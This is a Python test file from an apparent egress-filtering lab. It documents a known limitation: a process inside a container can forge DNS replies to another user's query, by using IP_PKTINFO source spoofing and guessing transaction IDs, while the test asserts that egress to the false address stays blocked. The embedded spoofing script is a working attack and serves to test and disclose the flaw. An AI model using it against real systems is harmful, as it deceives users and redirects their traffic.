"""A process in here can speak to others in here in the gate's place. It deceives them; it opens
nothing."""

import os
import re
import signal
import subprocess

import pytest

from lab.dns_zone import silence
from lab.lab import ALLOWED, EVIL_V4

VICTIM_UID, ID = 4242, 0x777

# From where the gate is, though not through its socket: IP_PKTINFO chooses the sender's address.
LIAR = """
import socket, struct, sys
gate, evil, victim = int(sys.argv[1]), socket.inet_aton(sys.argv[2]), sys.argv[3]
liar = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
liar.bind(("127.0.0.2", gate))
print("ready", flush=True)
asking = []
while not asking:
    lines = [line.split() for line in open("/proc/net/udp").readlines()[1:]]
    asking = [line[1].split(":") for line in lines if line[7] == victim]
to = socket.inet_ntoa(bytes.fromhex(asking[0][0])[::-1]), int(asking[0][1], 16)
sender = [(socket.IPPROTO_IP, 8, struct.pack("=I4s4s", 0, socket.inet_aton("127.0.0.1"), bytes(4)))]
for guess in range(0x1000):
    liar.sendmsg([struct.pack("!6H", guess, 0x8180, 1, 1, 0, 0) + b"\\7allowed\\4test\\0\\0\\1\\0\\1"
                  + struct.pack("!3HIH", 0xc00c, 1, 1, 60, 4) + evil], sender, 0, to)
"""
VICTIM = """
import socket, struct, sys
asks = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asks.settimeout(10)
asks.connect(("192.0.2.53", 53))
asks.send(struct.pack("!6H", int(sys.argv[1]), 0x100, 1, 0, 0, 0)
          + b"\\7allowed\\4test\\0\\0\\1\\0\\1")
print(socket.inet_ntoa(asks.recv(512)[-4:]))
"""


@pytest.mark.leak("H27")
def test_limit_others_in_here_can_be_told_falsehoods(lab, container):
    egressd = lab.egressd(allow=["other.test"])
    lab.zone.twist(ALLOWED, silence)  # so that there is time
    egressd.reload({"allow": [ALLOWED]})
    gate = re.search(r"nfproto ipv4 .*redirect to :(\d+)",
                     container.nft("list", "chain", "inet", "egressd", "dns"))[1]
    argv = ["/usr/bin/python3", "-I", "-c", LIAR, gate, EVIL_V4, str(VICTIM_UID)]
    with subprocess.Popen(container.command(argv, uid=1000), stdout=subprocess.PIPE, text=True,
                          start_new_session=True) as process:
        try:
            assert process.stdout.readline() == "ready\n"
            told = container.run(["/usr/bin/python3", "-I", "-c", VICTIM, str(ID)], uid=VICTIM_UID)
        finally:
            os.killpg(process.pid, signal.SIGKILL)  # nsenter, and what it runs
    assert told.stdout.strip() == EVIL_V4
    assert EVIL_V4 not in egressd.leased()
    assert not container.connect(EVIL_V4, 80) and not container.connect(EVIL_V4, 443)
    assert not lab.servers.came()
